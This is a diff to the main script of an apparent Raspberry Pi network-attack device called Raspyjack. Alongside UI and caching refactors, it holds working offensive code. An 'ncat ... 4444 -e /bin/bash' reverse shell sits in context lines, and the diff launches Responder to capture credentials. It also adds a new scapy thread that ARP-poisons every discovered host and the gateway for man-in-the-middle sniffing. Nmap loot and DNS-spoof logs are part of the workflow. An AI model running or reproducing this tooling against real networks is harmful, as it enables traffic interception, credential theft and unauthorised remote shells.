@@ -1,6 +1,11 @@
 #!/usr/bin/env python3
 
+import ipaddress
 import os
+import re
+import selectors
+import shutil
+import signal
 import subprocess
 import netifaces # type: ignore
 from datetime import datetime
@@ -10,6 +15,7 @@ import LCD_Config
 import LCD_1in44
 import RPi.GPIO as GPIO # type: ignore
 from functools import partial
+from typing import Optional
 import time
 import sys
 from ui.widgets import (
@@ -20,6 +26,7 @@ from ui.widgets import (
     ip_value_picker,
     color_picker,
     scrollable_text_lines,
+    TextFileRows,
     explorer,
     browse_images,
 )
@@ -27,7 +34,7 @@ from ui.status_bar import StatusBar
 from ui.color_scheme import ColorScheme
 from ui.menu import Menu, MenuItem, CheckboxMenuItem, ListRenderer, GridRenderer, CarouselRenderer
 from ui.framebuffer import fb
-from input_events import init_button_events, get_button_event as _evt_get_button_event
+from input_events import init_button_events, rearm_button_events, wait_buttons_released, get_button_event as _evt_get_button_event
 
 # https://www.waveshare.com/wiki/File:1.44inch-LCD-HAT-Code.7z
 
@@ -38,6 +45,42 @@ except Exception as _plug_exc:  # allow running without plugins
     PluginManager = None
     print(f"[PLUGIN] Plugin system not available: {_plug_exc}")
 
+# --- Network lookup cache ---------------------------------------
+# Interface addresses and routes change on the order of minutes; lookups are
+# cached briefly so a burst of calls (e.g. while launching a scan) costs one query.
+_IP_CACHE_TTL = 5.0
+_ip_cache = {}
+
+def _cached(key, fn):
+    now = time.monotonic()
+    hit = _ip_cache.get(key)
+    if hit and now - hit[0] < _IP_CACHE_TTL:
+        return hit[1]
+    value = fn()
+    _ip_cache[key] = (now, value)
+    return value
+
+def _ifaddresses(interface):
+    """Cached netifaces.ifaddresses(interface); {} for unknown interfaces."""
+    def lookup():
+        try:
+            return netifaces.ifaddresses(interface)
+        except ValueError:
+            return {}
+    return _cached(("ifaddr", interface), lookup)
+
+def _gateways():
+    """Cached netifaces.gateways()."""
+    return _cached(("gateways",), netifaces.gateways)
+
+def _ipv4(interface):
+    """First IPv4 entry ({'addr', 'netmask', ...}) of `interface`, or {}."""
+    return _ifaddresses(interface).get(netifaces.AF_INET, [{}])[0]
+
+def invalidate_network_cache():
+    """Drop cached lookups, e.g. after the active interface was switched."""
+    _ip_cache.clear()
+
 # WiFi Integration - Add dual interface support
 try:
     sys.path.append('/root/Raspyjack/wifi/')
@@ -51,81 +94,219 @@ try:
     )
     WIFI_AVAILABLE = True
     print("✅ WiFi integration loaded - dual interface support enabled")
+
+    # The integration re-reads preferences and routing tables on every call
+    _wifi_best_interface = get_best_interface
+    _wifi_interface_ip = get_interface_ip
+    _wifi_target_network = get_nmap_target_network
+    _wifi_mitm_interface = get_mitm_interface
+
+    def get_best_interface():
+        return _cached(("best",), _wifi_best_interface)
+    def get_interface_ip(interface):
+        return _cached(("ip", interface), lambda: _wifi_interface_ip(interface))
+    def get_nmap_target_network(interface=None):
+        if interface is None:
+            interface = get_best_interface()
+        return _cached(("net", interface), lambda: _wifi_target_network(interface))
+    def get_mitm_interface():
+        return _cached(("mitm",), _wifi_mitm_interface)
+    def get_responder_interface():
+        return get_best_interface()
+    def get_dns_spoof_ip(interface=None):
+        return get_interface_ip(interface if interface is not None else get_best_interface())
 except ImportError as e:
     print(f"⚠️  WiFi integration not available: {e}")
     print("   Using ethernet-only mode")
     WIFI_AVAILABLE = False
     
     # Fallback functions for ethernet-only mode
+
     def get_best_interface():
         return "eth0"
     def get_interface_ip(interface):
-        try:
-            return subprocess.check_output(f"ip addr show dev {interface} | awk '/inet / {{ print $2 }}'", shell=True).decode().strip().split('/')[0]
-        except:
-            return None
-    def get_nmap_target_network():
-        try:
-            return subprocess.check_output("ip -4 addr show eth0 | awk '/inet / { print $2 }'", shell=True).decode().strip()
-        except:
-            return None
+        return _cached(("ip", interface), lambda: _ipv4(interface).get('addr'))
+    def get_nmap_target_network(interface=None):
+        interface = interface or "eth0"
+        def lookup():
+            info = _ipv4(interface)
+            if 'addr' not in info or 'netmask' not in info:
+                return None
+            return ipaddress.IPv4Interface(f"{info['addr']}/{info['netmask']}").with_prefixlen
+        return _cached(("net", interface), lookup)
     def get_mitm_interface():
         return "eth0"
     def get_responder_interface():
         return "eth0"  
-    def get_dns_spoof_ip():
-        try:
-            return subprocess.check_output("ip -4 addr show eth0 | awk '/inet / {split($2, a, \"/\"); print a[1]}'", shell=True).decode().strip()
-        except:
-            return None
+    def get_dns_spoof_ip(interface=None):
+        return get_interface_ip(interface or "eth0")
     def set_raspyjack_interface(interface):
         print(f"⚠️  WiFi integration not available - cannot switch to {interface}")
         return False
+# Hot-path loop flags are plain bools (a single reference store is atomic under
+# the GIL); _stop_evt is kept for code that blocks on shutdown (input events).
 _stop_evt = threading.Event()
-screen_lock = threading.Event()
+_stop_flag = False
+_screen_locked = False
+
+def request_stop() -> None:
+    global _stop_flag
+    _stop_flag = True
+    _stop_evt.set()
+
+def set_screen_lock(locked: bool) -> None:
+    """Freeze (True) or resume (False) the overlay render loop while a payload owns the LCD."""
+    global _screen_locked
+    _screen_locked = bool(locked)
+    if not locked:
+        request_render()
+
+_render_requested = False
+
+def request_render() -> None:
+    """Ask the render loop to recompose the next frame even if nothing looks changed."""
+    global _render_requested
+    _render_requested = True
 
 status_bar = StatusBar()
 
+# Process-presence checks (status bar, is_responder_running, is_mitm_running)
+# share a single /proc walk cached for about a second. The render loop refreshes
+# the activity less often while it is stable, and promptly after a menu action.
+_ACTIVITY_MIN_INTERVAL = 2.0
+_ACTIVITY_MAX_INTERVAL = 15.0
+_PROC_CACHE_TTL = 1.0
+_INTEREST = frozenset({"nmap", "ettercap", "tcpdump", "arpspoof", "Responder.py"})
+_proc_cache = {"ts": 0.0, "procs": frozenset()}
+_activity_cache = {"interval": _ACTIVITY_MIN_INTERVAL, "due": 0.0, "last": None}
+
+def _scan_procs() -> frozenset:
+    """Walk /proc once and return the names in _INTEREST that are running.
+
+    Names come from /proc/<pid>/comm; python processes also contribute the
+    basename of their script arguments so Responder.py can be matched.
+    """
+    found = set()
+    try:
+        entries = os.scandir('/proc')
+    except OSError:
+        return frozenset()
+    with entries:
+        for entry in entries:
+            pid = entry.name
+            if not pid.isdigit():
+                continue
+            try:
+                with open(f'/proc/{pid}/comm', 'rb') as f:
+                    comm = f.read().strip().decode(errors='ignore')
+            except OSError:
+                continue  # process exited while scanning
+            if comm in _INTEREST:
+                found.add(comm)
+            elif comm.startswith('python'):
+                try:
+                    with open(f'/proc/{pid}/cmdline', 'rb') as f:
+                        for arg in f.read().split(b'\0')[1:]:
+                            name = os.path.basename(arg.decode(errors='ignore'))
+                            if name in _INTEREST:
+                                found.add(name)
+                except OSError:
+                    pass
+    return frozenset(found)
+
+def _get_procs() -> frozenset:
+    now = time.monotonic()
+    if now - _proc_cache["ts"] >= _PROC_CACHE_TTL:
+        _proc_cache["procs"] = _scan_procs()
+        _proc_cache["ts"] = now
+    return _proc_cache["procs"]
+
 def _compute_activity_status() -> str:
     try:
-        devnull = subprocess.DEVNULL
-        call = subprocess.call
-        if call(['pgrep', '-x', 'nmap'], stdout=devnull, stderr=devnull) == 0:
+        procs = _get_procs()
+        if 'nmap' in procs:
             return "(Scan in progress)"
-        if 'is_mitm_running' in globals() and callable(is_mitm_running) and is_mitm_running():
+        if 'tcpdump' in procs or 'arpspoof' in procs:
             return "(MITM & sniff)"
-        if call(['pgrep', '-x', 'ettercap'], stdout=devnull, stderr=devnull) == 0:
+        if 'ettercap' in procs:
             return "(DNSSpoof)"
-        if 'is_responder_running' in globals() and callable(is_responder_running) and is_responder_running():
+        if 'Responder.py' in procs:
             return "(Responder)"
     except Exception:
         pass
     return ""
 
-def _stats_update_loop():
-    """Background thread that updates stats at fixed interval regardless of render FPS."""
-    while not _stop_evt.is_set():
-        activity = _compute_activity_status()
+def refresh_activity_status() -> None:
+    """Drop the cached process scan and refresh the activity on the next render tick."""
+    _proc_cache["ts"] = 0.0
+    _activity_cache["interval"] = _ACTIVITY_MIN_INTERVAL
+    _activity_cache["due"] = 0.0
+
+def _update_activity(now: float) -> None:
+    """Refresh the status bar activity when due, backing off while it is unchanged."""
+    if now < _activity_cache["due"]:
+        return
+    activity = _compute_activity_status()
+    if activity != _activity_cache["last"]:
+        _activity_cache["last"] = activity
         status_bar.set_activity(activity)
-        time.sleep(2.0)
+        _activity_cache["interval"] = _ACTIVITY_MIN_INTERVAL
+    else:
+        _activity_cache["interval"] = min(_activity_cache["interval"] * 1.5, _ACTIVITY_MAX_INTERVAL)
+    _activity_cache["due"] = now + _activity_cache["interval"]
 
 def _render_loop():
-    """Update stats (if needed) and render overlays."""
+    """Update stats (when due) and render overlays on a fixed monotonic schedule."""
+    global _render_requested
     TICK = 0.1  # ~10 FPS overlay
-    while not _stop_evt.is_set():
-        if screen_lock.is_set():  # UI frozen by payload
+    KEEPALIVE = 1.0  # recompose at least this often (catches untracked base draws)
+    # Two preallocated frames swapped by reference: the base is pasted into the
+    # back buffer each tick instead of allocating a fresh copy.
+    buffers = [Image.new("RGB", (LCD.width, LCD.height)) for _ in range(2)]
+    draws = [ImageDraw.Draw(b) for b in buffers]
+    back = 0
+    last_state = None
+    last_overlay = None
+    last_render = 0.0
+    next_deadline = time.monotonic()
+    while not _stop_flag:
+        if _screen_locked:  # UI frozen by payload
             time.sleep(0.2)
+            next_deadline = time.monotonic()
             continue
-        # Snapshot current base frame from FrameBuffer
-        frame = fb.snapshot()
-        draw_frame = ImageDraw.Draw(frame)
+        now = time.monotonic()
+        _update_activity(now)
+
+        # Skip composition when base frame, status text and plugin overlay are
+        # unchanged and nobody requested a redraw. Without an overlay snapshot
+        # plugins draw live each frame (dispatch_render_overlay), so never skip.
+        overlay = None
+        if _plugin_manager is not None:
+            try:
+                overlay = _plugin_manager.get_overlay()
+            except Exception:
+                overlay = None
+        live_overlay = _plugin_manager is not None and overlay is None
+        state = (fb.version, status_bar.get_status_msg(), status_bar.is_hidden())
+        if (state == last_state and overlay is last_overlay and not live_overlay
+                and not _render_requested and now - last_render < KEEPALIVE):
+            next_deadline = now + TICK
+            time.sleep(TICK)
+            continue
+        last_state = state
+        last_overlay = overlay
+        last_render = now
+        _render_requested = False
+
+        # Snapshot current base frame from FrameBuffer into the back buffer
+        frame = fb.snapshot_into(buffers[back])
+        draw_frame = draws[back]
         # Draw status/temperature bar via StatusBar helper
-        status_bar.render(draw_frame, font)
+        status_bar.render(draw_frame, font, frame)
 
         # Plugins overlays
-        if '_plugin_manager' in globals() and _plugin_manager is not None:
+        if _plugin_manager is not None:
             try:
-                overlay = _plugin_manager.get_overlay()
                 if overlay is not None:
                     try:
                         frame.paste(overlay, (0, 0), overlay)
@@ -141,18 +322,24 @@ def _render_loop():
             LCD.LCD_ShowImage(frame, 0, 0)
         except Exception:
             pass
-        time.sleep(TICK)
+        back ^= 1
+        # Sleep to the next deadline (no drift); resync if we fell behind
+        next_deadline += TICK
+        delay = next_deadline - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+        else:
+            next_deadline = time.monotonic()
 
 def start_background_loops():
-    threading.Thread(target=_stats_update_loop, daemon=True).start()
     threading.Thread(target=_render_loop, daemon=True).start()
     threading.Thread(target=_plugin_tick_loop, daemon=True).start()
 
 def _plugin_tick_loop():
-    """Dedicated loop for plugin ticks so they continue while screen_lock is set."""
+    """Dedicated loop for plugin ticks so they continue while the screen is locked."""
     TICK_INTERVAL = 0.5  # rate limit ticks to reduce CPU usage
-    while not _stop_evt.is_set():
-        if '_plugin_manager' in globals() and _plugin_manager is not None:
+    while not _stop_flag:
+        if _plugin_manager is not None:
             try:
                 _plugin_manager.dispatch_tick()
                 _plugin_manager.rebuild_overlay(size=(LCD.width, LCD.height))
@@ -190,101 +377,61 @@ color: "ColorScheme"  # forward annotation for linters
  
 
 ####### Simple methods #######
-### Get any button press ###
-def get_button():
-    while True:
-        now_t = time.time()
-        for item, pin in gpio_config.pins.items():
-            val = GPIO.input(pin)
-            if item in EDGE_BUTTONS:
-                prev = _button_prev.get(item, 1)
-                if prev == 1 and val == 0:  # transition to pressed
-                    last_t = _button_last_time.get(item, 0)
-                    if (now_t - last_t) >= _DEBOUNCE_INTERVAL:
-                        _button_last_time[item] = now_t
-                        _button_prev[item] = val
-                        if '_plugin_manager' in globals() and _plugin_manager is not None:
-                            pass  # Legacy dispatch removed (event manager handles PRESS)
-                        return item
-                _button_prev[item] = val
-            else:
-                if val == 0:
-                    # Legacy immediate dispatch removed
-                    return item
-        time.sleep(0.01)
-
-
-def get_button_no_edge():
-    """Return first pressed button (level detection) without edge debouncing.
-
-    Useful for widgets (like passive text scrollers) that want continuous
-    press sampling (e.g., holding UP should repeatedly scroll) without the
-    single-edge gating applied in `get_button` for directional keys.
-
-    Still applies a minimal debounce interval for all buttons to avoid
-    overwhelming the UI thread on sustained contact bounce.
-    """
-    while True:
-        now_t = time.time()
-        for item, pin in gpio_config.pins.items():
-            val = GPIO.input(pin)
-            if val == 0:  # active low pressed
-                last_t = _button_last_time.get(item, 0)
-                if (now_t - last_t) >= _DEBOUNCE_INTERVAL:
-                    _button_last_time[item] = now_t
-                    if '_plugin_manager' in globals() and _plugin_manager is not None:
-                        pass  # Event manager provides continuous events
-                    return item
-        time.sleep(0.01)
-
-
 def leave(poweroff: bool = False) -> None:
-    _stop_evt.set()
-    if '_plugin_manager' in globals() and _plugin_manager is not None:
+    request_stop()
+    if _plugin_manager is not None:
         try:
             _plugin_manager.unload_all()
         except Exception:
             pass
     GPIO.cleanup()
     if poweroff:
-        os.system("sync && poweroff")
+        os.sync()
+        subprocess.run(["poweroff"])
     print("Bye!")
     sys.exit(0)
 
 
+_NICE = shutil.which("nice") or "/usr/bin/nice"
+
 def restart_ui():
     print("Restarting the UI!")
     dialog(_widget_context, "Restarting!", False)
-    arg = ["-n","-5",os.sys.executable] + sys.argv
-    os.execv(os.popen("whereis nice").read().split(" ")[1], arg)
+    arg = ["nice", "-n", "-5", sys.executable] + sys.argv
+    os.execv(_NICE, arg)
     leave()
 
 
 def safe_kill(*names):
-    for name in names:
-        subprocess.run(
-            ["pkill", "-9", "-x", name],      # -x = exact name match
-            stdout=subprocess.DEVNULL,
-            stderr=subprocess.DEVNULL
-        )
+    """SIGKILL every process whose name exactly matches one of `names` (like pkill -9 -x)."""
+    # The kernel truncates comm to 15 characters, which is what pkill matches on
+    wanted = {name[:15] for name in names}
+    own = os.getpid()
+    with os.scandir('/proc') as entries:
+        for entry in entries:
+            if not entry.name.isdigit() or int(entry.name) == own:
+                continue
+            try:
+                with open(f'/proc/{entry.name}/comm', 'rb') as f:
+                    comm = f.read().strip().decode(errors='ignore')
+                if comm in wanted:
+                    os.kill(int(entry.name), signal.SIGKILL)
+            except OSError:
+                continue
+
+def _spawn_detached(argv, **kwargs):
+    """Start a long-running tool in its own session with no inherited stdio."""
+    return subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.DEVNULL, start_new_session=True, **kwargs)
 
 ### Two threaded functions ###
 # One for updating status bar and one for refreshing display #
 def is_responder_running():
-    time.sleep(1)
-    ps_command = "ps aux | grep Responder.py | grep -v grep | awk '{print $2}'"
-    try:
-        output = subprocess.check_output(ps_command, shell=True)
-        pid = int(output.strip())
-        return True
-    except (subprocess.CalledProcessError, ValueError):
-        return False
+    return 'Responder.py' in _get_procs()
 
 def is_mitm_running():
-    time.sleep(1)
-    tcpdump_running = subprocess.call(['pgrep', 'tcpdump'], stdout=subprocess.DEVNULL) == 0
-    arpspoof_running = subprocess.call(['pgrep', 'arpspoof'], stdout=subprocess.DEVNULL) == 0
-    return tcpdump_running or arpspoof_running
+    procs = _get_procs()
+    return 'tcpdump' in procs or 'arpspoof' in procs or _arp_poisoning()
 
 
 def save_config() -> None:
@@ -293,9 +440,10 @@ def save_config() -> None:
         "PATHS": {"IMAGEBROWSER_START": default.imgstart_path},
         "COLORS": color.to_dict(),
     }
-    print(json.dumps(data, indent=4, sort_keys=True))
+    text = json.dumps(data, indent=4, sort_keys=True)  # serialize once for console and file
+    print(text)
     with open(default.config_file, "w") as wf:
-        json.dump(data, wf, indent=4, sort_keys=True)
+        wf.write(text)
     
     # Update the gpio_config module's internal state to keep it in sync
     gpio_config._config_data = data
@@ -309,14 +457,17 @@ def save_config() -> None:
 def load_config():
     global default
 
-    if not (os.path.exists(default.config_file) and os.path.isfile(default.config_file)):
-        print("Can't find a config file! Creating one at '" + default.config_file + "'...")
-        save_config()
-
     # Reload GPIO configuration
     gpio_config.load_config()
 
-    with open(default.config_file, "r") as rf:
+    try:
+        rf = open(default.config_file, "r")
+    except FileNotFoundError:
+        print("Can't find a config file! Creating one at '" + default.config_file + "'...")
+        save_config()
+        rf = open(default.config_file, "r")
+
+    with rf:
         data = json.load(rf)
         default.imgstart_path = data["PATHS"].get("IMAGEBROWSER_START", default.imgstart_path)
         
@@ -342,7 +493,7 @@ from plugins.runtime import (
 def reload_plugins():
     """Reload plugins using runtime helper."""
     global _plugin_manager
-    if 'PluginManager' not in globals() or PluginManager is None:
+    if PluginManager is None:
         return
     ctx = {
         'exec_payload': lambda name: exec_payload(name),
@@ -352,6 +503,7 @@ def reload_plugins():
         'draw_obj': lambda: draw,
         'status_bar': status_bar,
         'get_button_event': _evt_get_button_event,
+        'request_render': request_render,
         # Placeholders (filled after WidgetContext is created in main())
         'widget_context': None,
         'plugin_manager': None,
@@ -359,8 +511,6 @@ def reload_plugins():
     }
     _plugin_manager = _rt_reload_plugins(_plugin_manager, default.install_path, ctx)
 
-####### Drawing functions #######
-
 ### Initializations ###
 # This block must be at the top to ensure all hardware and config are ready before use.
 default = Defaults()
@@ -384,34 +534,12 @@ font = text_font
 from gpio_config import gpio_config
 
 # Edge-detected logical buttons.
-EDGE_BUTTONS = {
-    "KEY1_PIN",
-    "KEY2_PIN",
-    "KEY3_PIN",
-    "KEY_PRESS_PIN",
-    "KEY_LEFT_PIN",
-    "KEY_RIGHT_PIN",
-    "KEY_UP_PIN",
-    "KEY_DOWN_PIN",
-}
-_button_prev = {}
-_button_last_time = {}
-_DEBOUNCE_INTERVAL = 0.18  # seconds min interval between presses
-
 # Instantiate the global color scheme
 color = ColorScheme(draw_ref=lambda: draw)
 
 # Load config
 load_config()
 
-# Initialize previous states for edge-detected buttons
-for _bn, _pin in gpio_config.pins.items():
-    if _bn in EDGE_BUTTONS:
-        try:
-            _button_prev[_bn] = GPIO.input(_pin)
-        except Exception:
-            _button_prev[_bn] = 1  # assume released
-
 # Global widget context - will be initialized in main()
 _widget_context = None
 
@@ -445,12 +573,12 @@ def _interactive_selector(context: WidgetContext, items: list, title: str = "Sel
     return selected_value
 
 
-def _browse_and_show_text_files(base_subpath: str, extensions: str, title: str):
+def _browse_and_show_text_files(base_subpath: str, extensions: tuple, title: str):
     """Generic helper to browse a directory and display a selected text file.
 
     Loops until user exits explorer; handles read errors gracefully.
     base_subpath: path relative to install_path.
-    extensions: pipe-separated list of allowed extensions.
+    extensions: tuple of allowed extensions.
     title: title shown in scrollable viewer.
     """
     root_path = os.path.join(default.install_path, base_subpath)
@@ -462,20 +590,20 @@ def _browse_and_show_text_files(base_subpath: str, extensions: str, title: str):
         if not yn_dialog(_widget_context, question="Open file?", yes_text="Yes", no_text="No", second_line=fname[:20]):
             continue
         try:
-            with open(rfile, 'r', encoding='utf-8', errors='ignore') as f:
-                content = f.read().splitlines()
-            scrollable_text_lines(_widget_context, content, title=title)
+            # Index the file and read only the rows on screen; logs can be large
+            with TextFileRows(rfile) as rows:
+                scrollable_text_lines(_widget_context, rows, title=title)
         except Exception as e:
             dialog_info(_widget_context, f"Error reading file:\n{e}", wait=True)
 
 def read_text_file_nmap():
-    _browse_and_show_text_files("loot/Nmap/", ".txt|.xml", "Nmap File")
+    _browse_and_show_text_files("loot/Nmap/", (".txt", ".xml"), "Nmap File")
 
 def read_text_file_responder():
-    _browse_and_show_text_files("Responder/logs/", ".log|.txt", "Responder Log")
+    _browse_and_show_text_files("Responder/logs/", (".log", ".txt"), "Responder Log")
 
 def read_text_file_dnsspoof():
-    _browse_and_show_text_files("DNSSpoof/captures/", ".log|.txt", "DNSSpoof Log")
+    _browse_and_show_text_files("DNSSpoof/captures/", (".log", ".txt"), "DNSSpoof Log")
 
 
 def set_color(key: str) -> None:
@@ -495,31 +623,35 @@ def set_color(key: str) -> None:
     except Exception as e:
         dialog_info(_widget_context, f"Color Error: {e}", wait=True)
 
+def _network_info_lines() -> list:
+    interface = get_best_interface()
+    interface_ipv4 = get_interface_ip(interface)
+    info_lines = [f"Interface: {interface}"]
+    if interface_ipv4:
+        interface_subnet_mask = _ipv4(interface)['netmask']
+        interface_gateway = _gateways()["default"][netifaces.AF_INET][0]
+        info_lines.extend([
+            f"IP: {interface_ipv4}",
+            f"Subnet: {interface_subnet_mask}",
+            "Gateway:",
+            f"  {interface_gateway}",
+        ])
+        if interface.startswith('wlan') and WIFI_AVAILABLE:
+            try:
+                from wifi.wifi_manager import wifi_manager
+                status = wifi_manager.get_connection_status(interface)
+                if status["ssid"]:
+                    info_lines.extend(["SSID:", f"  {status['ssid']}"])
+            except: pass
+    else:
+        info_lines.append("Status: No connection")
+    return info_lines
+
 def show_info():
     """Display network information using the scrollable text viewer."""
     try:
-        interface = get_best_interface()
-        interface_ipv4 = get_interface_ip(interface)
-        info_lines = [f"Interface: {interface}"]
-        if interface_ipv4:
-            interface_config = netifaces.ifaddresses(interface)
-            interface_subnet_mask = interface_config[netifaces.AF_INET][0]['netmask']
-            interface_gateway = netifaces.gateways()["default"][netifaces.AF_INET][0]
-            info_lines.extend([
-                f"IP: {interface_ipv4}",
-                f"Subnet: {interface_subnet_mask}",
-                "Gateway:",
-                f"  {interface_gateway}",
-            ])
-            if interface.startswith('wlan') and WIFI_AVAILABLE:
-                try:
-                    from wifi.wifi_manager import wifi_manager
-                    status = wifi_manager.get_connection_status(interface)
-                    if status["ssid"]:
-                        info_lines.extend(["SSID:", f"  {status['ssid']}"])
-                except: pass
-        else:
-            info_lines.append("Status: No connection")
+        # Built once per cache TTL (including the SSID query); errors are not cached
+        info_lines = _cached(("info",), _network_info_lines)
     except Exception as e:
         info_lines = ["Network Error", f"Details: {str(e)[:15]}..."]
     
@@ -527,7 +659,7 @@ def show_info():
 
 WAIT_TXT = "Scan in progress..."
 
-def run_scan(label: str, nmap_args: list[str]):
+def run_scan(label: str, nmap_args: tuple[str, ...], slug: Optional[str] = None):
     if _event_bus is not None:
         try:
             _event_bus.emit("scan.before", label=label, args=nmap_args)
@@ -545,10 +677,16 @@ def run_scan(label: str, nmap_args: list[str]):
         return
 
     ts   = datetime.now().strftime("%Y-%m-%d_%H-%M-%S")
-    path = f"/root/Raspyjack/loot/Nmap/{label.lower().replace(' ', '_')}_{ts}.txt"
+    if slug is None:
+        slug = label.lower().replace(' ', '_')
+    path = f"/root/Raspyjack/loot/Nmap/{slug}_{ts}.txt"
+
+    # Normal output goes to a pipe of its own (-oN /dev/fd/N); nmap's
+    # interactive output stays on the console and never mixes into the report
+    out_r, out_w = os.pipe()
 
     # Build nmap command with interface specification
-    cmd = ["nmap"] + nmap_args + ["-oN", path]
+    cmd = ["nmap", *nmap_args, "-oN", f"/dev/fd/{out_w}"]
     
     # Add interface-specific parameters for better results
     interface_ip = get_interface_ip(interface)
@@ -557,8 +695,42 @@ def run_scan(label: str, nmap_args: list[str]):
     
     cmd.append(ip_with_mask)
     
-    subprocess.run(cmd)
-    subprocess.run(["sed", "-i", "s/Nmap scan report for //g", path])
+    # The report is streamed into the loot file with the report prefix
+    # stripped on the way, so the file is written once
+    try:
+        proc = subprocess.Popen(cmd, pass_fds=(out_w,))
+    except OSError:
+        os.close(out_r)
+        raise
+    finally:
+        os.close(out_w)
+    # Raw bytes end to end: hostnames, banners and NSE output need not be UTF-8
+    complete = False
+    try:
+        with os.fdopen(out_r, "rb") as report, open(path, "wb") as f:
+            for line in report:
+                f.write(line.replace(b"Nmap scan report for ", b""))
+        complete = True
+    finally:
+        if not complete:
+            # Copy failed: stop nmap, reap it and drop the partial report
+            proc.terminate()
+        rc = proc.wait()
+        if not complete:
+            try:
+                os.remove(path)
+            except OSError:
+                pass
+
+    if rc != 0:
+        # Bad target, missing privileges...: don't keep a partial report as a result
+        try:
+            os.remove(path)
+        except OSError:
+            pass
+        print(f"[-] nmap exited with status {rc}")
+        dialog_info(_widget_context, f"{label}\nFailed! (nmap {rc})\nInterface: {interface}", wait=True, center=True)
+        return
 
     if _event_bus is not None:
         try:
@@ -587,10 +759,13 @@ SCANS = {
 }
 
 
-globals().update({
-    f"scan_{k.lower().replace(' ', '_')}": partial(run_scan, k, v)
-    for k, v in SCANS.items()
-})
+# label -> ready-made partial; args are frozen and the loot slug is computed once
+SCAN_ACTIONS = {}
+for _label, _args in SCANS.items():
+    _slug = sys.intern(_label.lower().replace(' ', '_'))
+    SCAN_ACTIONS[_label] = partial(run_scan, sys.intern(_label), tuple(_args), _slug)
+    globals()[f"scan_{_slug}"] = SCAN_ACTIONS[_label]
+del _label, _args, _slug
 
 
 
@@ -599,10 +774,7 @@ def defaut_reverse():
     interface = get_best_interface()
     
     try:
-        default_ip_bytes = subprocess.check_output(f"ip addr show dev {interface} | awk '/inet / {{ print $2 }}'|cut -d'.' -f1-3", shell=True)
-        default_ip = default_ip_bytes.decode('utf-8').strip()
-        default_ip_parts = default_ip.split(".")
-        default_ip_prefix = ".".join(default_ip_parts[:3])
+        default_ip_prefix = ".".join(_ipv4(interface)['addr'].split(".")[:3])
         new_value = ip_value_picker(_widget_context, default_ip_prefix, initial_value=1)
         target_ip = f"{default_ip_prefix}.{new_value}"
         nc_command = ['ncat', target_ip, '4444', '-e', '/bin/bash']
@@ -619,29 +791,49 @@ def remote_reverse():
     process = subprocess.Popen(nc_command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, close_fds=True)
     status_bar.set_temp_status("(Remote shell)", ttl=5)
 
+def _find_pids(needle: bytes) -> list[int]:
+    """PIDs whose command line contains `needle`, read straight from /proc."""
+    pids = []
+    own = os.getpid()
+    with os.scandir('/proc') as entries:
+        for entry in entries:
+            if not entry.name.isdigit() or int(entry.name) == own:
+                continue
+            try:
+                with open(f'/proc/{entry.name}/cmdline', 'rb') as f:
+                    if needle in f.read():
+                        pids.append(int(entry.name))
+            except OSError:
+                continue
+    return pids
+
+def _kill_matching(needle: bytes, sig=signal.SIGTERM) -> None:
+    """Signal every process whose command line contains `needle` (like pkill -f)."""
+    for pid in _find_pids(needle):
+        try:
+            os.kill(pid, sig)
+        except OSError:
+            pass
+
 def responder_on():
-    check_responder_command = "ps aux | grep Responder | grep -v grep | cut -d ' ' -f7"
-    check_responder_process = os.popen(check_responder_command).read().strip()
-    if check_responder_process:
-        subprocess.check_call(check_responder_command, shell=True)
+    if _find_pids(b'Responder.py'):
         dialog_info(_widget_context, "Already running!", wait=True, center=True)
         time.sleep(2)
     else:
         # Get best interface for Responder
         interface = get_responder_interface()
-        os.system(f'python3 /root/Raspyjack/Responder/Responder.py -Q -I {interface} &')
+        _spawn_detached(["python3", "/root/Raspyjack/Responder/Responder.py", "-Q", "-I", interface])
         dialog_info(_widget_context, f"Responder\nStarted!\nInterface: {interface}", wait=True, center=True)
         time.sleep(2)
 
 def responder_off():
-    os.system("killResponder=$(ps aux | grep Responder|grep -v 'grep'|awk '{print $2}')&&kill -9 $killResponder")
+    _kill_matching(b'Responder.py', signal.SIGKILL)
     dialog_info(_widget_context, "Responder\nStopped!", wait=True, center=True)
     time.sleep(2)
 
 
 def get_default_gateway_ip():
-    gateways = netifaces.gateways()
-    return gateways['default'][netifaces.AF_INET][0]
+    return _gateways()['default'][netifaces.AF_INET][0]
 
 def get_local_network():
     default_gateway_ip = get_default_gateway_ip()
@@ -649,7 +841,65 @@ def get_local_network():
     ip_parts[-1] = '0'
     return '.'.join(ip_parts) + '/24'
 
+_ARP_SCAN_NOISE = ("Interface", "Starting", "packets", "Ending")
+
+def _set_ip_forward(enabled: bool) -> None:
+    with open("/proc/sys/net/ipv4/ip_forward", "w") as f:
+        f.write("1\n" if enabled else "0\n")
+
+# One scapy thread poisons every host (both directions) instead of two
+# arpspoof processes per host; arpspoof remains the fallback without scapy.
+_ARP_RESEND_INTERVAL = 2.0  # same cadence as arpspoof
+_arp_stop = threading.Event()
+_arp_thread = None
+
+def _start_arp_poisoner(interface: str, gateway_ip: str, hosts: list) -> bool:
+    global _arp_thread
+    try:
+        from scapy.all import ARP, Ether, sendp, getmacbyip  # type: ignore
+    except Exception:
+        return False
+    _stop_arp_poisoner()
+    targets = [h for h in hosts if h['ip'] != gateway_ip]
+    gateway_mac = next((h['mac'] for h in hosts if h['ip'] == gateway_ip), None)
+    if gateway_mac is None:
+        # Not in the arp-scan results: ask for it once rather than broadcasting
+        try:
+            gateway_mac = getmacbyip(gateway_ip)
+        except Exception:
+            gateway_mac = None
+    pkts = [Ether(dst=h['mac']) / ARP(op=2, pdst=h['ip'], hwdst=h['mac'], psrc=gateway_ip)
+            for h in targets]
+    if gateway_mac and gateway_mac != "ff:ff:ff:ff:ff:ff":
+        pkts += [Ether(dst=gateway_mac) / ARP(op=2, pdst=gateway_ip, hwdst=gateway_mac, psrc=h['ip'])
+                 for h in targets]
+    else:
+        print(f"[-] Gateway {gateway_ip} MAC unresolved; poisoning hosts only (no gateway direction)")
+
+    def run():
+        while not _arp_stop.is_set():
+            try:
+                sendp(pkts, iface=interface, verbose=0)
+            except Exception as e:
+                print(f"[-] ARP poisoner stopped: {e}")
+                return
+            _arp_stop.wait(_ARP_RESEND_INTERVAL)
+
+    _arp_stop.clear()
+    _arp_thread = threading.Thread(target=run, daemon=True)
+    _arp_thread.start()
+    return True
+
+def _stop_arp_poisoner() -> None:
+    _arp_stop.set()
